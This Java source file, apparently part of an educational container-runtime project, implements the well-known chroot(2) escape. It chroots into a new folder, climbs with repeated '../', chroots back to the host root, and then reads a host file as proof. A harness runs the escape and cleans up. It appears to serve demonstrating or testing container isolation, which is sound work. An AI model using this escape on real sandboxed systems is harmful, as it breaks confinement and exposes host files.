package minidocker.chroot;

import static minidocker.syscall.FileCalls.chdir;
import static minidocker.syscall.FileCalls.chroot;
import static minidocker.syscall.FileCalls.mkdir;
import static minidocker.syscall.FileCalls.openat;
import static minidocker.syscall.FileCalls.read;
import static minidocker.syscall.MachineCalls.result;
import static minidocker.syscall.ProcessCalls.exitGroup;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import minidocker.syscall.Child;
import minidocker.syscall.Operand.Memory;
import minidocker.syscall.ProgramFailure;
import minidocker.syscall.ProgramTable;
import minidocker.syscall.SyscallProgram;

/**
 * The classic way out of chroot(2). The kernel stops {@code ..} at the process's root directory, and only there; a process that
 * stands outside of its root never meets it on the way up. chroot moves the root and not the working directory, so calling it
 * once more is all that it takes. It needs CAP_SYS_CHROOT, which root inside a chroot has.
 *
 * @see <a href="https://man7.org/linux/man-pages/man2/chroot.2.html">chroot(2), "This call does not change the current working
 *     directory"</a>
 */
public final class Escape {
    /** Where a secret from the other side ends up. */
    static final Memory SECRET = new Memory("secret", 64);

    private static final String FOLDER = ".escape";
    /** More than any path is deep: at the top, .. stays where it is. */
    private static final int LEVELS = 64;

    private Escape() {}

    // tag::escape[]
    /** To be run inside. Afterwards the process is in the host's root directory, if that can be had. */
    public static SyscallProgram append(SyscallProgram program) {
        return append(program.then(mkdir("/" + FOLDER, 0700).orGoOn(), "a folder to put our root into"), "/" + FOLDER);
    }

    /** The same by way of a folder that is there. */
    public static SyscallProgram append(SyscallProgram program, String folder) {
        return program
                .then(chroot(folder), "the root moves there; we stay where we are, and that is now above our own root")
                .then(chdir("../".repeat(LEVELS)), "up and up: the root, where .. would stop, is not on this way")
                .then(chroot("."), "and the top of it all is our root again");
    }
    // end::escape[]

    /** The escape as a proof: it reads a file of the host's, and no program of either side is needed for it. */
    public static SyscallProgram toRead(SyscallProgram program, String hostFile) {
        return append(program)
                .then(openat(hostFile).as("file"), "a file that only the host has")
                .then(read(result("file"), SECRET, SECRET.size()).as("length"), "what it says")
                .then(exitGroup(0), "we were out");
    }

    /**
     * Runs the escape from inside a container.
     *
     * @param inside the program that gets there
     * @param rootfs in which the attempt leaves a folder, which is removed again
     * @param secret a file of the host's
     * @param trace prints the calls on standard error, or null
     * @return what the secret says, or null if it could not be read
     */
    public static String attempt(SyscallProgram inside, Path rootfs, Path secret, ProgramTable trace) throws IOException {
        boolean folderWasThere = Files.exists(rootfs.resolve(FOLDER));
        try (Child child = Child.spawn(toRead(inside, secret.toString()))) {
            try {
                child.awaitExec();
            } catch (ProgramFailure held) {
                return null;
            } finally {
                if (trace != null) {
                    System.err.print(trace.trace(child.trace()));
                }
            }
            child.waitFor();
            return new String(child.memory(SECRET), 0, (int) child.result("length"), StandardCharsets.UTF_8);
        } finally {
            if (!folderWasThere) {
                Files.deleteIfExists(rootfs.resolve(FOLDER));
            }
        }
    }
}
